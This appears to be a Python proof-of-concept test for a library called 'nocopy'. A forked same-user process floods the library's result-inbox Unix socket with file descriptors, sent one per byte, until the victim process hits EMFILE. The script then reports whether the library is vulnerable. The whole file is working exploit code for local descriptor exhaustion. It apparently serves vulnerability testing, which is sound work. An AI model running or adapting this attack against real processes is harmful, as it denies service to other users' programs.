# ADAPTED COPY (nocopy sockets are now pathname sockets in private dirs)
# NEW: a same-user process makes the result inbox hold descriptors it sends, one per 1-byte
# sendmsg, up to 513 per connection and 128 connections (the line is only checked once it ends or
# passes 512 bytes; each connection lives 5 s). With the usual `ulimit -n 1024` the victim process
# (any process that ever ran a nocopy executor/Pool) runs out of descriptors: its own open(),
# share(), sockets fail with EMFILE for as long as the attacker keeps going.
import os, socket, time, resource, collections
import numpy as np, nocopy
from nocopy._ipc._unixserver import socket_path  # ADAPTED: pathname sockets
from nocopy._pool import _results

ATTACK_S = 6
resource.setrlimit(resource.RLIMIT_NOFILE, (1024, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
inbox = _results.get_inbox()           # started by any ProcessPoolExecutor/Pool task
addr = inbox.address
base = len(os.listdir("/proc/self/fd"))

victim = os.getpid()
rpipe, wpipe = os.pipe()
pid = os.fork()
if pid == 0:                            # the attacker: same uid, knows only the abstract name
    os.close(rpipe)
    end = time.time() + ATTACK_S
    vpeak = 0
    fd = os.memfd_create("hoard")
    conns = []
    while time.time() < end:
        try:
            s = socket.socket(socket.AF_UNIX); s.connect(socket_path(addr)); s.setblocking(False)
        except OSError:
            time.sleep(0.01); continue
        conns.append(s)
        for _ in range(500):           # 500 bytes < MAX_LINE: the line never ends
            try:
                socket.send_fds(s, [b"a"], [fd])
            except OSError:
                break
        if len(conns) > 120:
            conns.pop(0).close()
        try:
            vpeak = max(vpeak, len(os.listdir(f"/proc/{victim}/fd")))
        except OSError:
            pass
    os.write(wpipe, str(vpeak).encode())
    os._exit(0)

fails = collections.Counter(); peak = base; tries = 0
end = time.time() + ATTACK_S
os.close(wpipe)
while time.time() < end:
    tries += 1
    try:
        os.close(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        fails[f"open: {e.strerror}"] += 1
    try:
        nocopy.share(np.arange(4)).close()
    except OSError as e:
        fails[f"share: {e.strerror}"] += 1
    time.sleep(0.01)
os.waitpid(pid, 0)
peak = int(os.read(rpipe, 20) or 0)
time.sleep(5.5)  # connections expire after 5 s
after = len(os.listdir("/proc/self/fd"))
print(f"victim fds: {base} before, peak {peak} during the attack (limit 1024), {after} 5.5 s after")
print(f"victim's own operations failing during the attack: {dict(fails)} out of {tries} tries each")
v = "vulnerable" if fails else "safe"
print(f"VERDICT: {v} peak {peak} fds held by the inbox's victim; {sum(fails.values())} EMFILE failures in {tries} tries")
